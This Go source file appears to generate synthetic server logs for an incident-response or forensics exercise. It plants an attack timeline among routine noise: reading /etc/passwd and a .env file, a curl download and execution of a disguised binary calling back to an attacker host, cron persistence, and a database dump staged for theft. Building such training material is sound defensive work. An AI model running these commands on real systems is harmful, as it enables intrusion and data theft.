package evidence

import (
	"fmt"
	"strconv"
	"strings"
	"time"
)

// said is a line of syslog behind the time: host, tag, message.
func (s webStory) said(at time.Time, finding uint8, tag, format string, args ...any) line {
	return line{at: at, finding: finding, text: s.host + " " + tag + ": " + fmt.Sprintf(format, args...)}
}

func (s webStory) writeSyslog(_ *dice, l line, b []byte) []byte { return syslogLine(l, b) }

// syslogLine writes the time, then what was said.
func syslogLine(l line, b []byte) []byte {
	b = append(stamp(b, l.at), ' ')
	b = append(b, l.text...)
	return append(b, '\n')
}

// auth is sshd, sudo and the sessions of cron; and among them one login.
func (s webStory) auth(d *dice, n int) []line {
	pid := func() string { return strconv.Itoa(d.between(900, 60000)) }
	var out []line
	p := pid()
	out = append(out,
		s.said(s.login, webLogin, "sshd["+p+"]", "Accepted password for %s from %s port %d ssh2", s.account, s.attacker, d.between(30000, 60000)),
		s.said(s.login.Add(80*time.Millisecond), webLogin, "sshd["+p+"]", "pam_unix(sshd:session): session opened for user %s(uid=1004) by (uid=0)", s.account),
		s.said(s.login.Add(2*time.Minute), webLogin, "sudo", "%s : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/bash", s.account, s.account),
		s.said(s.login.Add(38*time.Minute), webLogin, "sshd["+p+"]", "pam_unix(sshd:session): session closed for user %s", s.account))
	staff := []string{"mira", "tobias", "ansible"}
	for len(out) < n {
		at := s.begin.Add(d.within(s.end.Sub(s.begin)))
		switch roll := d.N(100); {
		case roll < 70: // the world tries passwords
			from := fmt.Sprintf("198.51.100.%d", d.between(2, 250))
			name := pick(d, []string{"root", "admin", "test", "ubuntu", "oracle", "git", "postgres", s.account})
			for range d.between(1, 6) {
				kind := "invalid user " + name
				if name == "root" || name == s.account {
					kind = name
				}
				out = append(out, s.said(at, 0, "sshd["+pid()+"]", "Failed password for %s from %s port %d ssh2", kind, from, d.between(30000, 60000)))
				at = at.Add(time.Second + d.within(4*time.Second))
			}
		case roll < 80:
			who, p := pick(d, staff), pid()
			at = busy(d, s.begin, s.end)
			out = append(out,
				s.said(at, 0, "sshd["+p+"]", "Accepted publickey for %s from 10.0.9.%d port %d ssh2: ED25519 SHA256:%s", who, d.between(10, 40), d.between(30000, 60000), d.hex(22)),
				s.said(at.Add(60*time.Millisecond), 0, "sshd["+p+"]", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", who, 1000+len(who)),
				s.said(at.Add(time.Minute+d.within(time.Hour)), 0, "sshd["+p+"]", "pam_unix(sshd:session): session closed for user %s", who))
		case roll < 86:
			who := pick(d, staff)
			out = append(out, s.said(busy(d, s.begin, s.end), 0, "sudo", "%s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", who, who,
				pick(d, []string{"/usr/bin/systemctl reload nginx", "/usr/bin/apt-get update", "/usr/bin/tail -f /var/log/nginx/error.log", "/usr/sbin/nginx -t"})))
		default:
			p := pid()
			out = append(out,
				s.said(at, 0, "CRON["+p+"]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
				s.said(at.Add(time.Second), 0, "CRON["+p+"]", "pam_unix(cron:session): session closed for user root"))
		}
	}
	return out[:n]
}

// system is what services say, and that one more of them was started.
func (s webStory) system(d *dice, n int) []line {
	run := s.entry.Add(25 * time.Minute)
	out := []line{
		s.said(run, webMalware, "kernel", "[884201.113020] kworkerds[31337]: memfd_create() called without MFD_EXEC or MFD_NOEXEC_SEAL set"),
		s.said(run.Add(20*time.Second), webMalware, "kernel", "[884221.401200] [UFW AUDIT] IN= OUT=eth0 SRC=10.0.0.21 DST=%s LEN=60 PROTO=TCP SPT=51234 DPT=4444 SYN", s.attacker),
		s.said(s.login.Add(9*time.Minute), webPersistence, "systemd[2210]", "Started dbus-cache.service - D-Bus cache of %s.", s.account),
	}
	for len(out) < n {
		at := s.begin.Add(d.within(s.end.Sub(s.begin)))
		switch d.N(6) {
		case 0:
			name := pick(d, []string{"phpsessionclean", "logrotate", "apt-daily", "man-db", "fstrim", "certbot", "sysstat-collect"})
			out = append(out,
				s.said(at, 0, "systemd[1]", "Starting %s.service...", name),
				s.said(at.Add(d.within(3*time.Second)), 0, "systemd[1]", "%s.service: Deactivated successfully.", name))
		case 1, 2:
			out = append(out, s.said(at, 0, "kernel", "[%d.%06d] [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.%d DST=10.0.0.21 LEN=40 PROTO=TCP SPT=%d DPT=%d SYN", 800000+d.N(90000), d.N(1000000),
				d.between(2, 250), d.between(1024, 65000), pick(d, []int{23, 445, 3389, 5900, 6379, 8080})))
		case 3:
			out = append(out, s.said(at, 0, "php-fpm["+strconv.Itoa(d.between(700, 2000))+"]", "[pool www] child %d exited with code 0 after %d.%06d seconds from start", d.between(2000, 60000), d.between(20, 4000), d.N(1000000)))
		case 4:
			out = append(out, s.said(at, 0, "systemd-resolved[512]", "Using degraded feature set UDP instead of UDP+EDNS0 for DNS server 10.0.0.%d.", d.between(2, 4)))
		default:
			out = append(out, s.said(at, 0, "postfix/smtp["+strconv.Itoa(d.between(2000, 60000))+"]", "%s: to=<c%d@mail.example>, relay=relay.acme.example[10.0.0.9]:25, delay=%d.%d, status=sent (250 queued)",
				strings.ToUpper(d.hex(10)), d.N(9000), d.N(3), d.N(10)))
		}
	}
	return out[:n]
}

// cron runs what it always runs, and one thing more since somebody wrote it in.
func (s webStory) cron(d *dice, n int) []line {
	added := s.login.Add(6 * time.Minute)
	out := []line{
		s.said(added, webPersistence, "crontab["+strconv.Itoa(d.between(2000, 60000))+"]", "(%s) REPLACE (%s)", s.account, s.account),
	}
	for at, i := added.Truncate(10*time.Minute).Add(10*time.Minute), 0; at.Before(s.end) && i < 12; at, i = at.Add(10*time.Minute), i+1 {
		out = append(out, s.said(at.Add(d.within(time.Second)), webPersistence, "CRON["+strconv.Itoa(d.between(2000, 60000))+"]", "(%s) CMD (/tmp/.x/kworkerds -q >/dev/null 2>&1)", s.account))
	}
	step := s.end.Sub(s.begin) / time.Duration(max(n-len(out), 1))
	for at := s.begin; len(out) < n; at = at.Add(step) {
		who, what := "root", "cd / && run-parts --report /etc/cron.hourly"
		switch d.N(4) {
		case 0:
			who, what = "www-data", "/usr/bin/php /var/www/shop/bin/queue --drain"
		case 1:
			what = "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean"
		case 2:
			what = "/usr/local/sbin/backup-db --incremental"
		}
		out = append(out, s.said(at.Add(d.within(time.Second)), 0, "CRON["+strconv.Itoa(d.between(2000, 60000))+"]", "(%s) CMD (%s)", who, what))
	}
	return out[:n]
}

// audit is auditd watching what programs start. A line here is one event of two
// records.
func (s webStory) audit(d *dice, n int) []line {
	var out []line
	ran := func(at time.Time, finding uint8, uid int, exe string, argv ...string) {
		out = append(out, line{at: at, finding: finding, who: uint32(uid), what: uint32(d.between(2000, 60000)), text: exe + "\x00" + strings.Join(argv, "\x00")}) //nolint:gosec // small numbers
	}
	at := s.entry.Add(3 * time.Minute)
	for _, c := range []string{"id", "uname -a", "cat /etc/passwd", "ss -tlnp", "cat /var/www/shop/.env"} {
		ran(at, webShell, 33, "/usr/bin/dash", "sh", "-c", c)
		at = at.Add(time.Duration(d.between(20, 200)) * time.Second)
	}
	run := s.entry.Add(24 * time.Minute)
	ran(run, webMalware, 33, "/usr/bin/curl", "curl", "-so", "/tmp/.x/kworkerds", "http://"+s.attacker+":8000/k")
	ran(run.Add(20*time.Second), webMalware, 33, "/usr/bin/chmod", "chmod", "755", "/tmp/.x/kworkerds")
	ran(run.Add(50*time.Second), webMalware, 33, "/tmp/.x/kworkerds", "./kworkerds", "-o", s.attacker+":4444")
	ran(s.theft.Add(-4*time.Minute), webExfil, 1004, "/usr/bin/pg_dump", "pg_dump", "-h", "10.0.0.30", "-f", "/tmp/.x/c.sql", "shop")
	ran(s.theft.Add(-2*time.Minute), webExfil, 1004, "/usr/bin/tar", "tar", "czf", "/var/www/shop/uploads/avatars/c0.tgz", "/tmp/.x/c.sql")
	for len(out) < n {
		at := s.begin.Add(d.within(s.end.Sub(s.begin)))
		switch d.N(5) {
		case 0:
			ran(at, 0, 33, "/usr/bin/convert", "convert", fmt.Sprintf("/tmp/php%s", d.hex(6)), "-resize", "256x256", fmt.Sprintf("/var/www/shop/uploads/avatars/%s.webp", d.hex(8)))
		case 1:
			ran(at, 0, 0, "/usr/bin/run-parts", "run-parts", "--report", "/etc/cron.hourly")
		case 2:
			ran(at, 0, 0, "/usr/bin/systemctl", "systemctl", "is-active", pick(d, []string{"nginx", "php8.2-fpm", "ssh"}))
		case 3:
			ran(at, 0, 33, "/usr/bin/php8.2", "php", "/var/www/shop/bin/queue", "--drain")
		default:
			ran(at, 0, 1000, "/usr/bin/ls", "ls", "--color=auto", "/var/log/nginx")
		}
	}
	return out[:n]
}

func (s webStory) writeAudit(d *dice, l line, b []byte) []byte {
	parts := strings.Split(l.text, "\x00")
	exe, argv := parts[0], parts[1:]
	head := fmt.Sprintf("msg=audit(%d.%03d:%d): ", l.at.Unix(), l.at.Nanosecond()/1e6, 400000+l.at.Unix()%1e6*8+int64(d.N(8)))
	b = fmt.Appendf(b, "type=SYSCALL %sarch=c000003e syscall=59 success=yes exit=0 a0=%s a1=%s a2=%s a3=8 items=2 ppid=%d pid=%d auid=4294967295 uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=(none) ses=4294967295 comm=%q exe=%q subj=unconfined key=\"exec\"\n",
		head, d.hex(12), d.hex(12), d.hex(12), 811, l.what, l.who, l.who, l.who, l.who, l.who, l.who, l.who, l.who, comm(exe), exe)
	b = fmt.Appendf(b, "type=EXECVE %sargc=%d", head, len(argv))
	for i, a := range argv {
		if strings.ContainsAny(a, " \"") { // auditd writes such a value in hexadecimal
			b = fmt.Appendf(b, " a%d=%X", i, a)
			continue
		}
		b = fmt.Appendf(b, " a%d=%q", i, a)
	}
	return append(b, '\n')
}

// comm is what the kernel keeps of a program's name.
func comm(exe string) string {
	name := exe[strings.LastIndexByte(exe, '/')+1:]
	return name[:min(len(name), 15)]
}
